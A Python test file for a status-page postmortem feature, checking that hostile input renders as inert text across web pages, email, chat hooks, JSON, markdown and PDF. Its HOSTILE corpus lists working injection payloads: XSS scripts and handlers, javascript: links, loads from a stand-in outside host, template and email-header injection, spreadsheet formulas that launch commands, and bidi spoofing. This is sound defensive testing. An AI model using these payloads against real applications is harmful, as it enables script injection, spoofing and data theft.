"""Whatever is typed into a postmortem is shown to readers as words, in every form of it, and obeyed by nothing."""

import json
import re
from datetime import timedelta
from email import message_from_bytes, policy
from io import BytesIO
from urllib.parse import urlsplit

import html5lib
import pikepdf
import pytest
import time_machine
from django.core import mail
from django.urls import reverse

from postmortems import rendition as renditions
from postmortems.models import Postmortem, Rendition
from postmortems.services import publish_postmortem, start_postmortem, withdraw_postmortem
from postmortems.tasks import render_due
from statuspage.components.status import Status
from statuspage.incidents.services import post_update
from statuspage.publishing import store
from statuspage.publishing.press import publish
from statuspage.publishing.wording import BIDI_SPANS
from statuspage.subscribers import delivery
from statuspage.subscribers.models import Notice
from statuspage.subscribers.services import Scope, subscribe_verified
from tests.conftest import NOW
from tests.postmortems.desk import form_in, press, url
from tests.postmortems.readers import front_matter, hooks
from tests.postmortems.test_pdf_hostile import listener
from tests.postmortems.test_publish_postmortem import save

__all__ = ["listener"]

HOUR, MINUTE = timedelta(hours=1), timedelta(minutes=1)

# AWAY stands for a server that must never be asked for anything.
HOSTILE = {
    "script": "<script>alert('obeyed')</script><script src=AWAY/x.js></script>",
    "handler": '<b onmouseover="alert(1)">x</b><svg/onload=alert(1)><details open ontoggle=alert(1)>',
    "quotes": '" onmouseover="alert(1)\' onfocus=\'alert(1) autofocus x=">',
    "link": "[a](javascript:alert(1)) [b](JaVa\tScRiPt&#58;alert(1)) <javascript:alert(1)> [c](data:text/html,x)",
    "reference": "[a][x] [b][y]\n\n[x]: javascript:alert(1)\n[y]: <vbscript:x> 'onclick=alert(1)'",
    "picture": "![a](//AWAY/p.png) ![b](AWAY/p.png) ![c](file:///etc/passwd) <img src=AWAY/i.png srcset='AWAY/s 1x'>",
    "style": "<style>@import 'AWAY/s.css'; p{background:url(AWAY/b.png)}</style><p style='background:url(AWAY/c.png)'>",
    "frame": "<iframe src=AWAY/f></iframe><object data=AWAY/o></object><embed src=AWAY/e><base href=AWAY/>",
    "head": "</title></head><meta http-equiv=refresh content='0;url=AWAY/m'><link rel=stylesheet href=AWAY/l.css>",
    "form": "</form><form action=AWAY/f method=post><input name=seen value=0><button formaction=AWAY/b>Save</button>",
    "drawing": "<svg><use href='AWAY/u.svg#a'/><image href='AWAY/g.png'/><script>alert(1)</script></svg><math><mtext>",
    "attachment": "<a rel=attachment href='file:///etc/passwd'>x</a><link rel=attachment href='AWAY/a'>",
    "comment": "<!-- --!> <![CDATA[ ]]> <?php system('id') ?> --> </textarea></script></style></iframe>",
    "template": "{{ settings.SECRET_KEY }}{% include 'x' %}{# x #}${7*7}<%= 7*7 %>{{7*7}}",
    "header": "Ships\r\nBcc: victim@example.com\r\nContent-Type: text/html\r\n\r\n<b>obeyed</b>",
    "lines": "one\u2028two\u2029three\x0bfour\x0cfive\x85six\x1b[31mseven\x07",
    "direction": "\u202egnp.exe\u2066\u2067\u202dx \u200f\u061c",
    "marks": "\ue001\ue002 \ue0000\ue000 \ue00099\ue000",
    "front matter": 'x"\n---\nurl: https://hostile.example\n---\n# Another title',
    "formula": '=HYPERLINK("AWAY/?"&A1,"x")|@SUM(1)*cmd|\' /C calc\'!A0',
    "chat": "<!channel> <@U012AB3CD> <AWAY/x|here> *bold* [x](AWAY)",
    "json": '"},{"sha256": "0"}, \\" \\u0000 </script>',
    "brackets": "[" * 49 + "a" + "]" * 49,
    "emphasis": "*a **b _c __d " * 20,
    "word": "W" * 400,
    "accents": "Z" + "\u0300" * 40,
}
TITLE = '<script>alert(1)</script>\r\nBcc: a@example.com "><img src=AWAY/t onerror=alert(1)> {{ 7 }}\u202e </title>'
TEXTS = ["description", "root_cause", "contributing_factors", "lessons", "further", "internal_notes"]
ROWS = dict(enumerate(HOSTILE))

SVG = "{http://www.w3.org/2000/svg}"
NEVER = {
    "iframe",
    "frame",
    "object",
    "embed",
    "base",
    "applet",
    "math",
    "audio",
    "video",
    "source",
    "picture",
    "portal",
}
LOADS = {"src", "srcset", "poster", "data", "background", "action", "formaction", "ping", "srcdoc"}


@pytest.fixture
def clock():
    with time_machine.travel(NOW + HOUR, tick=False) as travel:
        yield travel


@pytest.fixture
def desk(client, staff):
    client.force_login(staff)
    return client


@pytest.fixture
def corpus(listener):
    address, asked = listener
    yield {name: text.replace("AWAY", address) for name, text in HOSTILE.items()}
    assert asked == []


@pytest.fixture
def incident(make_component, make_incident, corpus, page):
    """One that is called as badly, and that everybody is told of."""
    for channel, address in {
        "email": "reader@example.com",
        "webhook": "https://hooks.example.net/1",
        "slack": "https://hooks.slack.com/services/1",
        "teams": "https://example.webhook.office.com/1",
    }.items():
        subscribe_verified(channel=channel, address=address, scope=Scope(whole_page=True), proof="x", at=NOW - HOUR)
    told = "\n\n".join(text for name, text in corpus.items() if name != "emphasis")
    api = make_component("<b>API</b>", group="<i onclick=x>")
    found = make_incident({api: Status.MAJOR_OUTAGE}, name=TITLE, body=told)
    post_update(found, status="resolved", body=told, affected={}, author=None, at=NOW + MINUTE)
    Notice.objects.all().delete()
    found.refresh_from_db()
    return found


def filled_in(sent, corpus):
    """The form with something hostile in every field that takes words: all of it in each text, and a row for each."""
    everything = "\n\n".join(corpus.values())
    sent |= {name: [everything] for name in TEXTS}
    sent |= {f"facts-{key}-typed": [everything[:1000]] for key in ("users_impacted", "frequency", "impact")}
    sent["facts"] = [*sent["facts"], *map(str, ROWS)]
    sent["actions"] = sent["mitigations"] = [str(number) for number in ROWS]
    for number, name in ROWS.items():
        text = corpus[name]
        sent |= {f"facts-{number}-label": [text[:200]], f"facts-{number}-typed": [text]}
        sent |= {f"actions-{number}-description": [text], f"actions-{number}-public": ["on"]}
        sent |= {f"mitigations-{number}-description": [text], f"mitigations-{number}-public": ["on"]}
        sent |= {f"mitigations-{number}-owner": [text[:120]], f"mitigations-{number}-status": ["open"]}
    return sent


@pytest.fixture
def written(desk, incident, corpus):
    """The draft, as the desk's form has taken it."""
    draft = start_postmortem(incident)
    answer = press(desk, incident, filled_in(form_in(desk.get(url(incident))), corpus))
    assert answer.status_code == 302
    draft.refresh_from_db()
    assert draft.actions_taken.count() == draft.mitigations.count() == len(HOSTILE)
    return draft


def obeyed(html, *, of_desk=False):
    """What a browser would do because of the page, besides what ours ask of it; html5lib reads it as browsers do."""
    tree = html5lib.parse(html, namespaceHTMLElements=False)
    for node in tree.iter():
        if not isinstance(node.tag, str):
            continue
        tag, said = node.tag.removeprefix(SVG), dict(node.attrib)
        is_ours = tag == "iframe" and (
            said.get("sandbox") == "" or (of_desk and said.get("data-src", "").startswith("/desk/"))
        )
        if tag in NEVER and not is_ours:
            yield tag
        if tag == "script" and (node.text or "").strip() and said.get("type") != "application/ld+json":
            yield f"script: {node.text}"
        if tag == "meta" and "http-equiv" in said:
            yield "meta"
        for name, value in said.items():
            if name.startswith("on") or (name == "style" and "url(" in value):
                yield f"{tag} {name}"
            if name in LOADS - {"srcdoc"} and not re.match(r"/(?!/)|\Z", value):
                yield f"{tag} {name}={value}"
            if name.endswith("href") and urlsplit("".join(value.split())).scheme not in {"", "http", "https", "mailto"}:
                yield f"{tag} {name}={value}"
            if name.endswith("href") and tag in {"link", "image", "use"} and "127.0.0.1" in value:
                yield f"{tag} {name}={value}"
            if name == "srcdoc":
                yield from obeyed(value)


def test_nothing_of_it_is_obeyed_at_the_desk(desk, written):
    for name in ("edit", "preview", "pane", "publish", "review", "revisions"):
        assert list(obeyed(desk.get(url(written.incident, name)).content, of_desk=True)) == [], name
    for name in ("postmortems:index", "postmortems:learning", "mitigations:index"):
        assert list(obeyed(desk.get(reverse(name)).content)) == [], name
    letter = desk.post(url(written.incident, "letter"), {"reason": HOSTILE["script"]})
    assert list(obeyed(letter.content)) == []


def release(clock):
    """Let a worker and the clock do what they do, as if the checks had found nothing."""
    Rendition.objects.update(owes_notice=True)
    render_due()
    clock.shift(MINUTE)
    delivery.fan_out()
    delivery.drain_mail()
    publish()


@pytest.fixture
def released(written, corpus, clock, monkeypatch):
    """Published whatever the checks say of it, revised for a hostile reason, and told; without its paper."""
    monkeypatch.setattr(renditions, "to_pdf", lambda html, *, at, attachments: b"%PDF made")
    for text in (corpus["script"], corpus["header"]):
        save(written, lessons=f"{written.lessons} {text}")
        publish_postmortem(written, author=None, reason=text, unchecked=True)
        release(clock)
    return Postmortem.objects.select_related("incident").get()


def test_nothing_of_it_is_obeyed_by_a_browser_or_leaves_its_place(released, clock, public):
    def look_at_all():
        pages = list(public.rglob("*.html"))
        assert len(pages) > 10
        for path in pages:
            assert list(obeyed(path.read_bytes())) == [], path
            assert not BIDI_SPANS.search(path.read_text()), path

    look_at_all()
    told = store.find(released.path).decode()
    assert "&lt;script&gt;alert(" in told
    assert "{{ settings.SECRET_KEY }}" in told
    withdraw_postmortem(released, author=None, reason="".join(HOSTILE.values())[:500])
    release(clock)
    look_at_all()


def test_nothing_of_it_is_obeyed_by_a_mail_program_or_a_chat(released):
    assert len(mail.outbox) == 2
    for letter in mail.outbox:
        read = message_from_bytes(letter.message().as_bytes(), policy=policy.default)
        assert (read["To"], read["Bcc"]) == ("reader@example.com", None)
        assert [part.get_content_type() for part in read.iter_parts()] == ["text/plain", "text/html"]
        text, html = (part.get_content() for part in read.iter_parts())
        assert list(obeyed(html)) == []
        for words in (text, html, read["Subject"]):
            assert not BIDI_SPANS.search(words)
            assert not re.search("[\ue000-\ue002\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", words)
        assert text.count("/subscriptions/unsubscribe/") == 1
    [slack, *_] = [words for where, words in hooks().items() if where.startswith("slack of ")]
    assert "<!channel>" not in slack
    assert "&lt;script&gt;" in slack


def test_as_data_and_as_markdown_it_is_words_in_their_place(released, corpus):
    data = store.find(f"{released.path}.json").decode()
    document = json.loads(data)
    assert document["root_cause"].startswith(corpus["script"])
    assert corpus["template"] in [line["description"] for line in document["actions"]]
    assert not BIDI_SPANS.search(data)
    text = store.find(f"{released.path}.md").decode()
    assert not BIDI_SPANS.search(text)
    head = front_matter(text)
    assert [head["title"], head["organisation"], head["url"]] == [
        document[name] for name in ("title", "organisation", "url")
    ]
    assert text.splitlines()[len(head) + len(head["components"]) + 1] == "---"


def test_on_paper_it_does_nothing_and_brings_nothing_with_it(written, clock):
    publish_postmortem(written, author=None, unchecked=True)
    release(clock)
    with pikepdf.open(BytesIO(store.find(f"{written.path}.pdf"))) as paper:
        assert list(paper.attachments) == ["postmortem.json"]
        assert "/OpenAction" not in paper.Root
        for thing in paper.objects:
            if isinstance(thing, pikepdf.Dictionary):
                assert thing.get("/S") not in {"/JavaScript", "/Launch", "/SubmitForm", "/GoToR", "/ImportData"}
                assert urlsplit(str(thing.get("/URI", ""))).scheme in {"", "http", "https", "mailto"}
            if isinstance(thing, pikepdf.Stream):
                assert thing.get("/Subtype") != "/Image"
